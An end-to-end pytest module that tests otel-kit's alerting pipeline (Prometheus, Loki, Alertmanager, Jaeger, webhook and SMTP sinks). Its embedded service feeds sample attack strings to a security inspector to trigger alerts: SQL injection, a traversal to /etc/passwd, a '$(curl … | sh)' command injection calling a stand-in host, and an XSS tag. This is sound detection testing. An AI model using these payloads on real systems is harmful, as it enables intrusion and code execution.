"""Alerts that reach people, end to end: the real Prometheus evaluates the shipped rule files (their
`for:` shortened) on real telemetry from a real service process, Loki's ruler evaluates the log
rules, the real Alertmanager groups, inhibits and delivers to a local webhook and a local SMTP
server; Jaeger keeps traces across a restart; `otel-kit alerts test` reports each receiver.

The scenario runs once for the module (its own stack, ports and receivers) and records what the
receivers got; each test checks one claim against the record.
"""

from __future__ import annotations

import asyncio
import contextlib
import email
import email.policy
import io
import json
import os
import re
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from otel_kit.cli import backends, main
from otel_kit.cli.stack import DEFAULT_PORTS, Stack, StackError, config

pytestmark = pytest.mark.e2e

STACK = "e2e-alerts"
PORT_OFFSET = 600  # 4917, 9690, 9693, ...: clear of the defaults, the e2e stack, the wheel test (100) and the scale tier
SERVICE = "alerts-e2e-shop"
WEBHOOK_TOKEN = "wh-t0ken-in-the-path"
TIMEOUT = 150.0

# The service: a fresh process with otel-kit, exporting every second. It serves 20 % 5xx, and once
# its first export is out it sees four attacks: three critical ones of three types (one group of
# AttackDetected) and a high one (AttackDetected's warning, inhibited by the critical).
APP = r'''
import signal, sys, time
import otel_kit
from fastapi import FastAPI, HTTPException
from fastapi.testclient import TestClient

telemetry = otel_kit.setup(service_name=sys.argv[1], endpoint=sys.argv[2], metric_interval=1.0, health_check_interval=1.0)
app = FastAPI()

@app.get("/ok")
def ok() -> dict:
    return {"ok": True}

@app.get("/fail")
def fail() -> None:
    raise HTTPException(500, "broken")

client = TestClient(app, raise_server_exceptions=False)
stop = []
signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
started = time.monotonic()
attacked = sys.argv[3] != "attack"
while not stop:
    for path in ("/ok", "/ok", "/ok", "/ok", "/fail"):
        client.get(path)
    if not attacked and time.monotonic() - started > 3.0:  # after the first exports: the series are at 0
        telemetry.security.inspect([
            ("query.q", "' UNION SELECT password FROM users--"), ("query.file", "../../../../etc/passwd"),
            ("form.cmd", "$(curl http://x.example/a.sh | sh)"), ("query.name", "<script>alert(1)</script>"),
        ], ip="203.0.113.7")
        attacked = True
        print("attacked", flush=True)
    time.sleep(0.2)
otel_kit.shutdown()
'''


# --- local receivers --------------------------------------------------------------------------------


class WebhookSink:
    """An HTTP server that keeps every JSON body Alertmanager posts."""

    def __init__(self) -> None:
        sink = self
        self.payloads: list[dict[str, Any]] = []
        self.paths: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                sink.paths.append(self.path)
                sink.payloads.append(json.loads(body))
                self.send_response(200)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hooks/{WEBHOOK_TOKEN}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def notifications(self, alertname: str, status: str | None = None) -> list[dict[str, Any]]:
        return [p for p in list(self.payloads) if p["groupLabels"].get("alertname") == alertname and (status is None or p["status"] == status)]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class SmtpSink:
    """A minimal SMTP server (EHLO, MAIL, RCPT, DATA) on asyncio that keeps every message."""

    def __init__(self) -> None:
        self.messages: list[email.message.EmailMessage] = []
        self.loop = asyncio.new_event_loop()
        threading.Thread(target=self.loop.run_forever, daemon=True).start()
        self.server = asyncio.run_coroutine_threadsafe(asyncio.start_server(self._session, "127.0.0.1", 0), self.loop).result(10)
        self.port = self.server.sockets[0].getsockname()[1]

    async def _session(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        def reply(text: str) -> None:
            writer.write(text.encode() + b"\r\n")

        reply("220 sink ESMTP")
        data: list[bytes] | None = None
        while line := await reader.readline():
            if data is not None:
                if line.rstrip(b"\r\n") == b".":
                    self.messages.append(email.message_from_bytes(b"".join(data), policy=email.policy.default))  # type: ignore[arg-type]
                    data = None
                    reply("250 queued")
                else:
                    data.append(line[1:] if line.startswith(b"..") else line)
                continue
            verb = line[:4].decode("ascii", "replace").upper()
            if verb == "EHLO":
                reply("250-sink")
                reply("250 8BITMIME")
            elif verb == "DATA":
                data = []
                reply("354 end with .")
            elif verb == "QUIT":
                reply("221 bye")
                await writer.drain()
                break
            elif verb in ("HELO", "MAIL", "RCPT", "RSET", "NOOP"):
                reply("250 ok")
            else:
                reply("502 not implemented")
            await writer.drain()
        writer.close()

    def close(self) -> None:
        self.loop.call_soon_threadsafe(self.server.close)
        self.loop.call_soon_threadsafe(self.loop.stop)


# --- the scenario -----------------------------------------------------------------------------------


@dataclass
class Record:
    stack: Stack
    webhook: WebhookSink
    smtp: SmtpSink
    held_back: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    traces_before: list[str] = field(default_factory=list)
    traces_after: list[str] = field(default_factory=list)
    alerts_test: dict[str, Any] = field(default_factory=dict)
    alerts_test_code: int = -1
    alerts_list: dict[str, Any] = field(default_factory=dict)
    log_alerts: list[dict[str, Any]] = field(default_factory=list)


def _wait(probe: Callable[[], Any], what: str, timeout: float = TIMEOUT) -> Any:
    found = backends.wait_for(probe, timeout, interval=1.0)
    assert found, f"not within {timeout:g} s: {what}"
    return found


def _start_app(tmp: Path, stack: Stack, mode: str) -> subprocess.Popen[str]:
    script = tmp / "app.py"
    script.write_text(APP)
    environment = {k: v for k, v in os.environ.items() if not k.startswith("OTEL_")}
    return subprocess.Popen([sys.executable, str(script), SERVICE, stack.otlp_grpc, mode], env=environment, stdout=subprocess.PIPE, text=True)


def _stop(process: subprocess.Popen[str]) -> None:
    if process.poll() is None:
        process.terminate()
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(30)
    if process.poll() is None:
        process.kill()
        process.wait(10)


def _am_alerts(stack: Stack) -> list[dict[str, Any]]:
    with urllib.request.urlopen(f"{stack.alertmanager_url}/api/v2/alerts?active=true&silenced=true&inhibited=true", timeout=10) as response:
        return list(json.loads(response.read()))


def _inhibited(stack: Stack, alertname: str, severity: str | None = None) -> list[dict[str, Any]]:
    return [
        a for a in _am_alerts(stack)
        if a["labels"].get("alertname") == alertname and a["labels"].get("service") == SERVICE
        and (severity is None or a["labels"].get("severity") == severity) and a["status"]["inhibitedBy"]
    ]


def _jaeger_trace_ids(stack: Stack) -> list[str]:
    return sorted({t["traceID"] for t in backends.jaeger_traces(stack.jaeger_url, SERVICE, "1h", 50)})


def _cli(argv: list[str]) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main.main(argv)
    return code, out.getvalue()


@pytest.fixture(scope="module")
def record(stack_root: object, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Record]:
    """Run the scenario once: stack up with both receivers, a service attacked and failing, stopped and started again."""
    tmp = tmp_path_factory.mktemp("alerts")
    exported = tmp / "config"
    config.export(exported)
    for rule in (exported / "rules").glob("*.yml"):  # the test copy of the rules fires at once
        rule.write_text(re.sub(r"(?m)^(\s+)for: \S+$", r"\1for: 0s", rule.read_text()))
    # ... and both evaluators look more often than every 15 s (Prometheus) and every minute (Loki)
    prometheus = exported / "prometheus.yml"
    prometheus.write_text(prometheus.read_text().replace("evaluation_interval: 15s", "evaluation_interval: 5s"))
    loki = exported / "loki.yaml"
    loki.write_text(loki.read_text().replace("evaluation_interval: 1m", "evaluation_interval: 5s").replace("poll_interval: 1m", "poll_interval: 5s"))
    webhook, smtp = WebhookSink(), SmtpSink()
    stack = Stack(name=STACK, ports={key: port + PORT_OFFSET for key, port in DEFAULT_PORTS.items()})
    receivers = {
        "OTEL_KIT_CONFIG_DIR": str(exported), "OTEL_KIT_ALERT_WEBHOOK_URL": webhook.url, "OTEL_KIT_ALERT_EMAIL_TO": "oncall@example.test",
        "OTEL_KIT_SMTP_HOST": "127.0.0.1", "OTEL_KIT_SMTP_PORT": str(smtp.port), "OTEL_KIT_SMTP_TLS": "false",
        "OTEL_KIT_SMTP_FROM": "alerts@example.test", "OTEL_KIT_ALERT_GROUP_WAIT": "1s", "OTEL_KIT_ALERT_GROUP_INTERVAL": "5s",
        "OTEL_KIT_ALERT_REPEAT_INTERVAL": "1h",
    }
    stack.down()
    with pytest.MonkeyPatch.context() as patch:
        for name, value in receivers.items():
            patch.setenv(name, value)
        try:
            stack.up(fresh=True)
        except StackError as exc:
            stack.down()
            pytest.fail(f"the alerting stack did not start: {exc}")
    result = Record(stack, webhook, smtp)
    app = _start_app(tmp, stack, "attack")
    try:
        assert app.stdout is not None and any(line.strip() == "attacked" for line in iter(app.stdout.readline, "")), "the service did not start"
        _wait(lambda: webhook.notifications("AttackDetected"), "AttackDetected at the webhook")
        _wait(lambda: webhook.notifications("HighErrorRate"), "HighErrorRate at the webhook")
        result.held_back["AttackDetected"] = _wait(lambda: _inhibited(stack, "AttackDetected", "warning"), "the AttackDetected warning inhibited")
        result.held_back["HighErrorRate"] = _wait(lambda: _inhibited(stack, "HighErrorRate", "warning"), "the HighErrorRate warning inhibited")
        result.traces_before = _wait(lambda: _jaeger_trace_ids(stack)[:5], "traces in Jaeger")
        # before the service stops: its ServiceDown would hold back the log alert of the same service
        result.log_alerts = _wait(lambda: webhook.notifications("CriticalSecurityEvent"), "Loki's CriticalSecurityEvent at the webhook")
        _stop(app)  # the service stops: ServiceDown after 90 s of silence; meanwhile Jaeger restarts and the CLI runs
        stack.stop_one("jaeger")
        stack.start_one("jaeger")
        result.traces_after = [i for i in result.traces_before if backends.jaeger_trace(stack.jaeger_url, i) is not None]
        code, out = _cli(["alerts", "test", "--stack", STACK, "--json", "--timeout", "30"])
        result.alerts_test_code, result.alerts_test = code, json.loads(out)
        code, out = _cli(["alerts", "--stack", STACK, "--json"])
        assert code == 0
        result.alerts_list = json.loads(out)
        _wait(lambda: webhook.notifications("ServiceDown", "firing"), "ServiceDown at the webhook", timeout=180)
        result.held_back["ServiceDown"] = _wait(lambda: _inhibited(stack, "HighErrorRate", "critical"), "the stopped service's HighErrorRate inhibited")
        app = _start_app(tmp, stack, "calm")  # back: ServiceDown resolves
        _wait(lambda: webhook.notifications("ServiceDown", "resolved"), "ServiceDown resolved at the webhook")
        _wait(lambda: [m for m in smtp.messages if "ServiceDown" in str(m["Subject"])], "ServiceDown by email")
        yield result
    finally:
        _stop(app)
        stack.down()
        webhook.close()
        smtp.close()


# --- the claims ---------------------------------------------------------------------------------------


def test_first_attacks_of_a_fresh_process_fire_one_grouped_notification(record: Record) -> None:
    """Three critical attacks of three types right after start: AttackDetected for each, in one notification with labels and links."""
    (notification,) = record.webhook.notifications("AttackDetected")
    assert notification["status"] == "firing" and notification["receiver"] == "page"
    assert notification["groupLabels"] == {"alertname": "AttackDetected", "service": SERVICE}
    alerts = sorted(notification["alerts"], key=lambda a: a["labels"]["security_event_type"])
    assert [a["labels"]["security_event_type"] for a in alerts] == ["attack.command_injection", "attack.path_traversal", "attack.sql_injection"]
    for alert in alerts:
        assert alert["labels"]["severity"] == "critical" and alert["labels"]["job"] == SERVICE
        assert alert["annotations"]["summary"] == f"{SERVICE}: {alert['labels']['security_event_type']} attempts"
        assert alert["annotations"]["runbook_url"] == (record.stack.run_dir / "config" / "runbooks.md").resolve().as_uri() + "#attackdetected"
        assert alert["annotations"]["dashboard"] == f"http://127.0.0.1:3000/d/otel-kit-service/otel-kit-service?var-job={SERVICE}"


def test_the_critical_level_holds_back_the_warning(record: Record) -> None:
    """The high-severity XSS (AttackDetected warning) and the 5 % error-rate warning are inhibited by their critical levels, never sent."""
    (xss,) = record.held_back["AttackDetected"]
    assert xss["labels"]["security_event_type"] == "attack.xss" and xss["status"]["state"] == "suppressed"
    assert record.held_back["HighErrorRate"][0]["labels"]["severity"] == "warning"
    sent = [a["labels"] for p in record.webhook.payloads for a in p["alerts"] if a["labels"]["alertname"] in ("AttackDetected", "HighErrorRate")]
    assert sent and all(labels["severity"] == "critical" for labels in sent)


def test_email_arrives_at_the_smtp_server(record: Record) -> None:
    """The page receiver's email reaches the SMTP server with the group in its subject and the summaries in its body."""
    (attack,) = [m for m in record.smtp.messages if str(m["Subject"]).endswith(f"AttackDetected ({SERVICE})")]
    assert attack["Subject"] == f"[FIRING:3] AttackDetected ({SERVICE})"
    assert attack["From"] == "alerts@example.test" and attack["To"] == "oncall@example.test"
    body = attack.get_body(("html", "plain"))
    assert body is not None and f"{SERVICE}: attack.sql_injection attempts" in body.get_content()


def test_a_stopped_service_fires_service_down_then_resolves(record: Record) -> None:
    """Stopping the service fires ServiceDown (which holds back its other alerts); starting it again sends the resolved notification."""
    (firing,) = record.webhook.notifications("ServiceDown", "firing")
    (resolved,) = record.webhook.notifications("ServiceDown", "resolved")
    for notification in (firing, resolved):
        (alert,) = notification["alerts"]
        assert alert["labels"] == {"alertname": "ServiceDown", "job": SERVICE, "service": SERVICE, "severity": "critical"}
        assert alert["annotations"]["summary"] == f"{SERVICE} stopped reporting"
        assert alert["annotations"]["runbook_url"].endswith("runbooks.md#servicedown")
    assert resolved["alerts"][0]["status"] == "resolved"
    assert record.held_back["ServiceDown"][0]["status"]["inhibitedBy"]
    assert any("ServiceDown" in str(m["Subject"]) for m in record.smtp.messages)


def test_loki_ruler_sends_log_alerts_to_the_same_alertmanager(record: Record) -> None:
    """The critical security events in the service's logs fire Loki's CriticalSecurityEvent, labelled with the service."""
    alerts = [a for n in record.log_alerts for a in n["alerts"]]
    assert {a["labels"]["security_event_type"] for a in alerts} >= {"attack.sql_injection"}
    assert all(a["labels"]["service"] == SERVICE and a["labels"]["severity"] == "critical" for a in alerts)


def test_jaeger_keeps_traces_across_a_restart(record: Record) -> None:
    """Traces stored before Jaeger restarted are returned by its API after the restart (Badger on disk)."""
    assert record.traces_before and record.traces_after == record.traces_before
    assert (record.stack.run_dir / "jaeger-data" / "keys").is_dir()


def test_alerts_test_reports_webhook_and_smtp_delivered(record: Record) -> None:
    """`otel-kit alerts test` reports both receivers delivered, and each got the synthetic alert."""
    assert record.alerts_test_code == 0 and record.alerts_test["delivered"] is True
    assert sorted((r["name"], r["outcome"]) for r in record.alerts_test["receivers"]) == [("email[0]", "delivered"), ("webhook[0]", "delivered")]
    test_id = record.alerts_test["test_id"]
    assert [p for p in record.webhook.notifications("OtelKitTestAlert") if p["alerts"][0]["labels"]["test_id"] == test_id]
    assert [m for m in record.smtp.messages if "OtelKitTestAlert" in str(m["Subject"])]


def test_alerts_lists_what_fires_with_summaries(record: Record) -> None:
    """`otel-kit alerts --json` lists the firing alerts of both evaluators with summaries, and marks the inhibited ones."""
    rows = record.alerts_list["alerts"]
    mine = [r for r in rows if r["service"] == SERVICE and r["state"] == "firing"]
    assert {r["source"] for r in mine} == {"prometheus", "loki"}
    attack = [r for r in mine if r["alertname"] == "AttackDetected"]
    assert {(r["severity"], r["held_back"]) for r in attack} == {("critical", ""), ("warning", "inhibited")}
    assert all(r["summary"] for r in mine)


def test_secrets_stay_out_of_logs_and_the_config_is_private(record: Record) -> None:
    """The webhook's token is in no log of the stack, and the rendered alertmanager.yml is readable by its owner only."""
    logs = "".join(p.read_text(errors="replace") for p in record.stack.run_dir.glob("*.log"))
    assert WEBHOOK_TOKEN not in logs
    rendered = record.stack.run_dir / "config" / "alertmanager.yml"
    assert rendered.stat().st_mode & 0o777 == 0o600 and WEBHOOK_TOKEN in rendered.read_text()
    assert record.webhook.paths and all(path == f"/hooks/{WEBHOOK_TOKEN}" for path in record.webhook.paths)
